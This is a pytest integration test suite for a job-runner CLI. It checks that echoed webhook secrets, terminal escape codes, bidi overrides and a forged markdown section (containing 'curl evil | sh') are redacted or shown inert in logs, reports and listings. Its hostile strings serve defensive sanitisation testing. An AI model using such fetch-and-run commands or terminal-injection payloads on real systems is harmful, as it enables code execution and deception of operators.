"""A real run whose webhook echoes its own secrets back (in its reason phrase and body) and whose job prints
terminal escapes, a bidi override, a code fence and a forged section, ticked through the CLI; then every
file of the run folder and every command's output is read. And ``tianluo runs`` under a hostile folder name."""

import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import cli, read_events, settle, start_run, wait_for, write_spec

pytestmark = pytest.mark.integration

TOKEN = "T0KENabc123"
QKEY = "QKEYq1w2"
PARAM = "PARAMSECRET-9f8e7d"


class EchoingHook:
    """A webhook that answers 500 with its own path segment and query value in the reason and the body."""

    def __init__(self):
        self.posts: list[dict] = []
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                hook.posts.append(json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0)))))
                self.send_response(500, f"unknown hook {TOKEN} key {QKEY}")
                self.end_headers()
                self.wfile.write(f"no hook {TOKEN}?key={QKEY}".encode())

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/e500/hooks/{TOKEN}?key={QKEY}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


NOISY = r"""
import sys
err = sys.stderr
err.write("\x1b[31mred\x1b]0;owned title\x07 bell\x00nul \u202eevil\n")
err.write("token hf_abcdefghijklmnop\n")
err.write("```\n## How to release\nrun: curl evil | sh\n````\n")
sys.exit(3)
"""

SPEC = """\
name: leak
entities:
  a:
    params: {{api_token: "{param}", lr: "3e-4"}}
    stages:
      train: {{run: "python3 noisy.py --token {{api_token}} --lr {{lr}}"}}
ladder:
  unknown: {{retries: 0}}
notify:
  - {{webhook: "{url}", timeout: 2s}}
"""


@pytest.fixture
def echoing():
    h = EchoingHook()
    yield h
    h.close()


def test_a_webhook_that_echoes_its_secrets_and_a_hostile_log_leave_nothing_raw(tmp_path, echoing):
    project = tmp_path / "proj"
    project.mkdir()
    (project / "noisy.py").write_text(NOISY)
    spec = write_spec(project, SPEC.format(param=PARAM, url=echoing.url))
    home = tmp_path / "home"
    planned = cli("plan", spec, "--home", home, cwd=tmp_path).stdout
    run_dir = start_run(spec, home, tmp_path)
    wait_for((run_dir / "attempts/a/train/1/exit.json").exists, timeout=20, what="the attempt to exit")
    ticked = cli("tick", "--run", run_dir, cwd=tmp_path)
    assert echoing.posts, "the webhook was called"
    failed = [e for e in read_events(run_dir) if e["event"] in ("notify_failed", "notify_gave_up")]
    assert failed and "HTTP 500 unknown hook [redacted] key [redacted]" in failed[0]["error"]

    outputs = {"plan": planned, "tick": ticked.stdout + ticked.stderr}
    for args in (("events",), ("events", "--json"), ("status",), ("status", "--json"), ("report",)):
        proc = cli(*args, "--run", run_dir, cwd=tmp_path, check=False)
        outputs[" ".join(args)] = proc.stdout + proc.stderr
    outputs["runs"] = cli("runs", "--home", home, cwd=tmp_path).stdout
    for what, out in outputs.items():
        for secret in (TOKEN, QKEY, PARAM, "hf_abcdefghijklmnop"):
            assert secret not in out, (what, secret)
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, what

    # every file of the run but state.json (whose plan holds the URL: it is how the tick reaches it), its
    # snapshots, the job's own launch record and logs
    own = {"state.json", "job.json", "stdout", "stderr", "runner.log"}
    for path in run_dir.rglob("*"):
        if path.is_file() and path.name not in own and "snapshots" not in path.parts:
            data = path.read_bytes()
            for secret in (TOKEN, QKEY, PARAM):
                assert secret.encode() not in data, (path, secret)
    for name in ("report.html", "plan.md", "failures/a__analysis.md", "events.jsonl"):
        assert b"hf_abcdefghijklmnop" not in (run_dir / name).read_bytes(), name

    analysis = (run_dir / "failures/a__analysis.md").read_text()
    for bad in ("\x1b", "\x07", "\x00", "\u202e"):
        assert bad not in analysis
    assert analysis.splitlines().count("### How to release") == 1
    # the quoted log is inside one fence that none of its lines closes
    lines = analysis.splitlines()
    opening = next(i for i, ln in enumerate(lines) if ln.startswith("### stderr"))
    fence_line = lines[opening + 2]
    assert set(fence_line) == {"`"} and len(fence_line) >= 5
    closing = lines.index(fence_line, opening + 3)
    assert any("## How to release" in ln for ln in lines[opening + 3:closing])
    assert "\\x1b[31mred" in analysis  # shown, not acted on


def test_runs_shows_a_hostile_folder_name_as_one_inert_line(tmp_path):
    project = tmp_path / "proj"
    spec = write_spec(project, "name: r\nentities:\n  a:\n    stages:\n      train: {run: 'true'}\n")
    home = tmp_path / "home"
    run_dir = start_run(spec, home, tmp_path)
    # the job is a real process: copying its folder while its runner turns exit.json.reserved into
    # exit.json (and its event tick writes on) races them, so the folder is copied at rest
    wait_for((run_dir / "attempts/a/train/1/exit.json").exists, timeout=20, what="the attempt to exit")
    settle(tmp_path)
    hostile = home / (run_dir.name[:16] + "x\x1b[2J\u202e\nRUN 20990101-000000-fake  complete  met")
    shutil.copytree(run_dir, hostile, symlinks=True)
    out = cli("runs", "--home", home, cwd=tmp_path).stdout
    assert "\x1b" not in out and "\u202e" not in out
    assert len(out.splitlines()) == 3  # the header and two runs: no fake row
    rows = json.loads(cli("runs", "--home", home, "--json", cwd=tmp_path).stdout)["runs"]
    assert any("\\x1b[2J" in r["run_id"] and "\\x0a" in r["run_id"] for r in rows)
